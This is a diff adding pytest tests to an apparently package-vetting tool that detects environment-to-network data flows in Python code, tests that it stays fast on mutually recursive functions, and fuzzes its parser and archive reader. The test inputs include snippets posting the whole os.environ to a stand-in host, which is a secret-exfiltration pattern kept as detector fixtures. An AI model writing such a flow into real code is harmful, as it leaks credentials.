@@ -91,3 +91,72 @@ def test_service_queries(spark):
     assert [r["o"] for r in service.within_budget(items, ["k"], "t", "o", 12).collect()] == [0, 1]
     rep = service.reputation(spark.createDataFrame([("p", "d", "1.0"), ("p", "e", "1.0")], "pkg string, name string, version string"), spark.createDataFrame([("d", "M1", True, []), ("e", "M2", False, ["0.9"])], "name string, report string, ranges boolean, versions array<string>"), spark.createDataFrame([("e", "1.0")], "name string, version string"))
     assert {r["name"]: (r["all_versions"], r["affects"], r["cleared"]) for r in rep.collect()} == {"d": (True, True, False), "e": (False, False, True)}
+
+
+def flow_pairs(code):
+    import ast
+
+    from sparkvet.sources import python_facts, python_flow
+
+    source = "import os, requests\n" + code
+    reader = python_facts._File("p", "a.py", source.encode())
+    tree = ast.parse(source)
+    reader.visit(tree)
+    return {(h.label.source, h.sink) for _, h in python_flow.flows(reader, tree, [])[0]}
+
+
+@pytest.mark.parametrize(
+    "value, leaks",
+    [
+        ("os.environ['BASE']", False), ("os.getenv('TOKEN')", False), ("os.environ.get('TOKEN', '')", False), ("dict(os.environ)", True), ("os.environ", True), ("os.environ[name]", True), ("os.getenv(name)", True),
+        ("dict(os.environ)['TOKEN']", False), ("dict(os.environ).get('TOKEN')", False),
+    ],
+)
+def test_one_named_variable_is_not_the_environment(value, leaks):
+    got = flow_pairs(f"def f(name):\n    e = {value}\n    requests.post('https://a.example', data=e)\n")
+    assert (("environment", "network") in got) is leaks
+
+
+def test_functions_that_call_each_other_end_soon():
+    import time
+
+    n = 40
+    code = "\n".join(f"def f{i}(a, b):\n" + "\n".join(f"    a = f{j}(a, b)" for j in range(n) if j != i) + "\n    os.system(a)\n    return b" for i in range(n))
+    began = time.time()
+    flow_pairs(code)
+    assert time.time() - began < 20
+    began = time.time()
+    flow_pairs("\n".join(f"def f{i}(a, b):\n" + "\n".join(f"    a = f{j}(a, b)" for j in range(10) if j != i) + "\n    return b" for i in range(10)))
+    assert time.time() - began < 3
+
+
+def test_deep_sources_are_unread_not_fatal():
+    from sparkvet.sources import python_facts
+
+    for source in ("x = " + " + ".join(["a"] * 3000), "x = a" + ".b()" * 1500, "(" * 500, "\0"):
+        rows = python_facts.facts_of("p", "a.py", source.encode())
+        assert rows and all(len(r) == 9 for r in rows)
+
+
+def test_damaged_archives_end_in_rows():
+    import random
+
+    from sparkvet.sources import archives
+
+    r = random.Random(3)
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
+        for i in range(5):
+            z.writestr(f"d/f{i}.py", "print('x')\n" * 50 * (i + 1))
+    for _ in range(300):
+        data = bytearray(buffer.getvalue())
+        for _ in range(3):
+            data[r.randrange(len(data))] ^= 1 << r.randrange(8)
+        assert isinstance(archives.entries(bytes(data)), list)
+
+
+@pytest.mark.parametrize("text, code", [("https://[", "not_understood"), ("http://github.com/a/b", "unsupported_host"), ("https://github.com/a/b​", "control_character"), ("x" * 2049, "too_long")])
+def test_odd_requests(text, code):
+    from sparkvet.functions import inputs
+
+    assert inputs.parse(text)["error_code"] == code
